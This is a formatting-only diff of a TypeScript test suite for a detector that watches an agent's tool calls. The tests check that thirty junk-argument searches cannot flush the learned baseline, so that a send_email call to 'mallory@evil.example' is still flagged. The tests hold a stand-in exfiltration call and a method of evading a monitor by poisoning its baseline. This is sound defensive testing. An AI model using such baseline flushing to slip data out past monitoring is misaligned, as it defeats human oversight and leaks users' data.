@@ -10,27 +10,63 @@ const args = (tool: string, i: number): Record<string, unknown> =>
 describe("flushing the baseline with allowed junk", () => {
   it("junk argument keys do not erase what the recipient key has learned", () => {
     const d = detector({ budgetBytes: 1 << 20 });
-    const r = establish(d, { tenant: "acme", principal: "alice", tools: ["search_docs", "search_docs", "send_email"], args, calls: 60 });
+    const r = establish(d, {
+      tenant: "acme",
+      principal: "alice",
+      tools: ["search_docs", "search_docs", "send_email"],
+      args,
+      calls: 60,
+    });
     let t = r.last;
     // 30 searches, each with a never-seen extra key: an unseen shape alone is allowed and learned
     for (let i = 0; i < 30; i++) {
-      const dec = d.check({ tenant: "acme", principal: "alice", tool: "search_docs", args: { query: "x", [`junk_${i}`]: i }, time: (t += 3 * MIN) });
+      const dec = d.check({
+        tenant: "acme",
+        principal: "alice",
+        tool: "search_docs",
+        args: { query: "x", [`junk_${i}`]: i },
+        time: (t += 3 * MIN),
+      });
       expect(dec.action).toBe("allow");
     }
-    const evil = d.check({ tenant: "acme", principal: "alice", tool: "send_email", args: { to: "mallory@evil.example", body: "x" }, time: (t += 3 * MIN) });
+    const evil = d.check({
+      tenant: "acme",
+      principal: "alice",
+      tool: "send_email",
+      args: { to: "mallory@evil.example", body: "x" },
+      time: (t += 3 * MIN),
+    });
     expect(codes(evil)).toContain("UNSEEN_ARG_VALUE");
     expect(atLeast(evil, "warn"), JSON.stringify(evil.reasons)).toBe(true);
   });
 
   it("junk shapes do not erase the routine shapes", () => {
     const d = detector({ budgetBytes: 1 << 20 });
-    const r = establish(d, { tenant: "acme", principal: "alice", tools: ["search_docs", "search_docs", "send_email"], args, calls: 60 });
+    const r = establish(d, {
+      tenant: "acme",
+      principal: "alice",
+      tools: ["search_docs", "search_docs", "send_email"],
+      args,
+      calls: 60,
+    });
     let t = r.last;
     for (let i = 0; i < 30; i++) {
-      const dec = d.check({ tenant: "acme", principal: "alice", tool: "search_docs", args: { query: "x", [`k${i}`]: "x" }, time: (t += 3 * MIN) });
+      const dec = d.check({
+        tenant: "acme",
+        principal: "alice",
+        tool: "search_docs",
+        args: { query: "x", [`k${i}`]: "x" },
+        time: (t += 3 * MIN),
+      });
       expect(dec.action).toBe("allow");
     }
-    const routine = d.check({ tenant: "acme", principal: "alice", tool: "send_email", args: { to: "bob@corp.example", body: "hi" }, time: (t += 3 * MIN) });
+    const routine = d.check({
+      tenant: "acme",
+      principal: "alice",
+      tool: "send_email",
+      args: { to: "bob@corp.example", body: "hi" },
+      time: (t += 3 * MIN),
+    });
     expect(routine.signals.unseenArgShape).toBe(0);
   });
 });
